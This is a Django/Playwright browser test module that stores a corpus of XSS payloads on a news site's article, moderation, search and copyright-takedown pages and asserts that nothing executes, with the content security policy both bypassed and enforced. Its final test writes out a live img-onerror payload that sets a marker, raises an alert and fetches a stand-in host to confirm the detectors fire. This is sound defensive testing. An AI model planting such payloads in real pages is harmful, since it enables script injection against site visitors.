"""Hostile input in a real Chromium: the whole corpus, rendered where it lands, runs nothing.

Every payload is stored through the workflow functions the forms call, then shown on the
article page, the moderation review page (preview, revision diff, sources), the search results
page and, for copyright notices (web form and email), the staff's case page and the admin's
case page. Many payloads share a page. On every page the browser must show no dialog, log no
marker, make no request to the exfiltration host, and leave `window.__xss__` undefined.

Each page is loaded twice: once as readers get it, and once with the Content-Security-Policy
ignored (Playwright's bypass_csp), so that escaping and sanitizing are proven on their own and
the CSP stays a second line of defence rather than the only one.
"""

import re
from urllib.parse import urlencode, urlsplit

import pytest
from playwright.sync_api import Error as PlaywrightError
from django.conf import settings
from django.test import Client
from django.urls import NoReverseMatch, reverse

from submissions import services
from submissions.models import Status
from tests import factories
from tests.browser.conftest import DESKTOP
from tests.security.htmlcheck import EXFIL_HOST, load_payloads

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PAYLOADS = load_payloads()
PER_PAGE = 25
# Error, autofocus, toggle and animation events fire by "load" or within the next frames; wait two frames more.
SETTLE = "() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done, 20))))"


def groups(size=PER_PAGE):
    return [PAYLOADS[start:start + size] for start in range(0, len(PAYLOADS), size)]


def search_queries(limit=200):
    """The payloads packed into as few search queries as fit the 200-character field (first fit, longest first)."""
    queries = []
    for payload in sorted((payload[:limit] for _, payload in PAYLOADS), key=len, reverse=True):
        for index, query in enumerate(queries):
            if len(query) + 1 + len(payload) <= limit:
                queries[index] = f"{query} {payload}"
                break
        else:
            queries.append(payload)
    return queries


@pytest.fixture
def fast_hashing(settings):
    settings.RATELIMIT_ENABLED = False


def _story_data(category, group, start):
    payloads = [payload for _, payload in group]
    return {
        "title": f"Case {start}: {payloads[0]}"[:200], "summary": payloads[1 % len(payloads)][:500],
        "body": factories.STORY_BODY + "\n\n" + "\n\n".join(payloads), "category": category,
        "tags": [p[:60] for p in payloads[:8]], "language": "en", "sources": [f"https://example.org/s/{start}"],
        "no_sources": False, "image": None,
    }


def build_pages(base_url):
    """Store every payload and return {label: [paths]} of the pages that show them, and who may see them."""
    category = factories.category(name="Hostile")
    author = factories.user(password=None, display_name=PAYLOADS[0][1][:100])
    writer = factories.user(password=None)
    mod = factories.moderator(password=None)
    reader_paths, moderator_paths = [], []
    for index, group in enumerate(groups()):
        payloads = [payload for _, payload in group]
        article = factories.article(
            title=f"Story {index}: {payloads[0]}"[:200], summary=payloads[1][:500], author=author, category=category,
            body="\n\n".join(payloads), tags=[p[:60] for p in payloads[:8]], slug=f"hostile-{index}",
        )
        reader_paths.append(article.get_absolute_url())
        # A resubmission, so that the review page shows the payloads in the preview and in the revision diff.
        submission = factories.submission(status=Status.CHANGES_REQUESTED, contributor=writer, by=mod,
                                          category=category, reason=payloads[2])
        services.send(contributor=writer, data=_story_data(category, group, index), contact_language="en",
                      submission=submission)
        moderator_paths.append(f"/moderation/{submission.pk}/")
    moderator_paths.append("/moderation/")
    reader_paths += [f"/search/?{urlencode({'q': query})}" for query in search_queries()]
    reader_paths.append(f"/authors/{author.username}/")
    staff_paths = _takedown_pages(category, author)
    return {"reader": reader_paths, "moderator": (mod, moderator_paths), "copyright": staff_paths}


def _takedown_pages(category, author):
    try:
        from newsroom import inbound
        from submissions.takedowns import workflow as takedowns
        from submissions.takedowns.models import TakedownCase
    except ImportError:
        return None
    staff = factories.user(password=None, is_staff=True, is_superuser=True)
    article = factories.article(title="Disputed story", category=category, author=author, slug="disputed")
    url = f"{settings.SITE_URL}{article.get_absolute_url()}"
    for index, group in enumerate(groups()):
        payloads = [payload for _, payload in group]
        takedowns.open_case(
            source="web", complainant_name=payloads[0][:200], complainant_organisation=payloads[1][:200],
            complainant_address="\n".join(payloads[:5]), complainant_email=f"owner{index}@example.com",
            complainant_phone=payloads[2][:50], work_description="\n\n".join(payloads), reported_urls=[url],
            links=[(article, url)], good_faith_statement=True, accuracy_statement=True, signature=payloads[3][:200],
        )
        text = "\r\n\r\n".join(payloads)
        html = "".join(f"<p>{payload}</p>" for payload in payloads)
        name = payloads[4].replace('"', "").replace("\\", "")[:60]
        raw = (
            f'From: "{name}" <mailer{index}@example.com>\r\nTo: {settings.COPYRIGHT_EMAIL}\r\n'
            f"Subject: Notice {index} {' '.join(payloads[5].split())[:120]}\r\n"
            f"Message-ID: <browser-hostile-{index}@example.com>\r\nDate: Mon, 05 Jan 2026 10:00:00 +0000\r\n"
            f"MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n"
            f"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\nInfringing: {url}\r\n"
            f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--b--\r\n"
        ).encode()
        inbound.ingest_message(raw)
    paths = ["/copyright/cases/"]
    cases = list(TakedownCase.objects.order_by("pk"))
    paths += [reverse("takedowns:case", args=[case.reference]) for case in cases]
    try:  # the admin shows the same fields: the first web notice and the first mailed one are enough there
        paths += [reverse("admin:takedowns_takedowncase_change", args=[case.pk])
                  for case in (cases[0], cases[len(cases) // 2])]
        paths.append(reverse("admin:takedowns_takedowncase_changelist"))
    except NoReverseMatch:
        pass
    return staff, paths


class Watch:
    """What a page did that only a script or an injected element could have done."""

    def __init__(self, page):
        self.events = []
        page.on("dialog", self._dialog)
        page.on("console", self._console)
        page.on("request", self._request)  # the page's frames included

    def _request(self, request):
        if (urlsplit(request.url).hostname or "").endswith(EXFIL_HOST):
            self.events.append(f"request to {request.url}")

    def _dialog(self, dialog):
        self.events.append(f"dialog {dialog.type}: {dialog.message}")
        dialog.dismiss()

    def _console(self, message):
        text = message.text
        if "__xss__" in text or EXFIL_HOST in text or "Content Security Policy" in text:
            self.events.append(f"console {message.type}: {text[:200]}")


def _session_cookie(user, base_url):
    client = Client()
    client.force_login(user)
    return {"name": settings.SESSION_COOKIE_NAME, "value": client.cookies[settings.SESSION_COOKIE_NAME].value,
            "url": base_url}


def _cache_static_files(context):
    """Serve each static file to the browser once per context: a hundred page loads then cost a hundred pages."""
    stored = {}

    def serve(route):
        url = route.request.url
        try:
            if url not in stored:
                response = route.fetch()
                stored[url] = {"status": response.status, "headers": response.headers, "body": response.body()}
            route.fulfill(**stored[url])
        except PlaywrightError:  # the page moved on while the file was on its way: let the browser have it
            try:
                route.continue_()
            except PlaywrightError:
                pass

    context.route(re.compile(r"/static/"), serve)


def visit_all(browser, base_url, paths, *, user=None, bypass_csp):
    """Load every path and return {path: [what ran]} for the pages where anything did."""
    context = browser.new_context(viewport=DESKTOP, bypass_csp=bypass_csp)
    if user is not None:
        context.add_cookies([_session_cookie(user, base_url)])
    _cache_static_files(context)
    page = context.new_page()  # one tab: background tabs get throttled timers and no animation frames
    watch = Watch(page)
    found = {}
    try:
        for path in paths:
            watch.events.clear()
            response = page.goto(base_url + path, wait_until="load")
            page.evaluate(SETTLE)
            markers = [frame.evaluate("typeof window.__xss__") for frame in page.frames if not frame.is_detached()]
            problems = list(watch.events)
            if response is None or response.status != 200:
                problems.append(f"status {response.status if response else 'none'}")
            if any(kind != "undefined" for kind in markers):
                problems.append(f"window.__xss__ is set: {markers}")
            if problems:
                found[path] = problems
    finally:
        context.close()
    return found


def test_no_payload_runs_on_any_page_where_it_lands(browser, live_server, fast_hashing):
    """With the CSP ignored, every page that shows a payload: escaping and sanitizing alone hold.
    Then one page of each kind as readers and staff really get it, CSP enforced: still nothing runs,
    and nothing on the page even needed the CSP to be stopped (no violation is reported)."""
    pages = build_pages(live_server.url)
    mod, moderator_paths = pages["moderator"]
    visits = [(pages["reader"], None), (moderator_paths, mod)]
    if pages["copyright"] is not None:
        staff, staff_paths = pages["copyright"]
        visits.append((staff_paths, staff))
    found = {}
    for paths, user in visits:
        found.update(visit_all(browser, live_server.url, paths, user=user, bypass_csp=True))
    for paths, user in visits:
        one_of_each = list({re.sub(r"[0-9?].*", "", path): path for path in paths}.values())
        found.update({f"{path} (CSP enforced)": problems for path, problems in
                      visit_all(browser, live_server.url, one_of_each, user=user, bypass_csp=False).items()})

    assert sum(len(paths) for paths, _ in visits) >= 40
    assert found == {}, "\n".join(f"{path}: {problems}" for path, problems in found.items())


def test_the_watch_would_see_a_payload_that_ran(browser, live_server):
    """The detectors work: a page that does run a payload is caught by each of them."""
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    watch = Watch(page)
    page.set_content("<img src=x onerror=\"window.__xss__=1;alert(1);console.log('__xss__1');"
                     "fetch('http://xss.invalid/1').catch(()=>{})\">")
    page.evaluate(SETTLE)
    kinds = {re.match(r"\w+", event).group(0) for event in watch.events}
    assert page.evaluate("typeof window.__xss__") == "number"
    assert {"dialog", "console", "request"} <= kinds, watch.events
    context.close()
